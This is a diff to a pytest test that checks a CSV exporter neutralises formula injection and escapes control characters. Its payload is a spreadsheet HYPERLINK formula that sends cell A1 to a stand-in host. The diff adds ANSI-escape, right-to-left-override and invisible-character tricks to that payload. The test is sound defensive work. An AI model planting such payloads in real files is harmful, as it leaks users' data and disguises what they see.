@@ -276,15 +276,28 @@ def test_csv_holds_the_same_tables(results: Results, tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff20"])
 def test_no_text_of_csv_tables_begins_as_a_formula(begins: str, tmp_path: Path) -> None:
-    evil = begins + 'HYPERLINK("http://elsewhere.invalid/?"&A1,"click")'
+    evil = begins + 'HYPERLINK("http://elsewhere.invalid/?"&A1,"\x1b[2Jcl\u202e\u3164ick")'
     Store(tmp_path).save(
-        trial("circle", 10, "flock", 0, cell=evil, error=evil, axes={"mine": evil}, code=evil, record=None)
+        trial(
+            "circle",
+            10,
+            "flock",
+            0,
+            cell=evil,
+            error=evil,
+            axes={"mine": evil, "\x1b\u202e": "x"},
+            code=evil,
+            record=None,
+        )
     )
     path, _ = tables.export_csv(tmp_path, tmp_path)
     with path.open(newline="", encoding="utf-8") as file:
         (row,) = csv.DictReader(file)
-    assert {row[name] for name in ("cell", "error", "axis_mine", "code")} == {f"'{evil}"}
+    shown = evil.replace("\x1b", "\\x1b").replace("\u202e", "\\u202e").replace("\u3164", "\\u3164")
+    shown = "\\r" + shown[1:] if begins == "\r" else f"'{shown}"
+    assert {row[name] for name in ("cell", "error", "axis_mine", "code")} == {shown} and row["axis_\\x1b\\u202e"] == "x"
     assert not [text for text in row.values() if text[:1] == begins]
+    assert printable(path.read_text(encoding="utf-8")) == path.read_text(encoding="utf-8")
     assert tables.read_trials(tmp_path)["cell"].to_list() == [evil], "the tables of the sweep are left as they are"
 
 
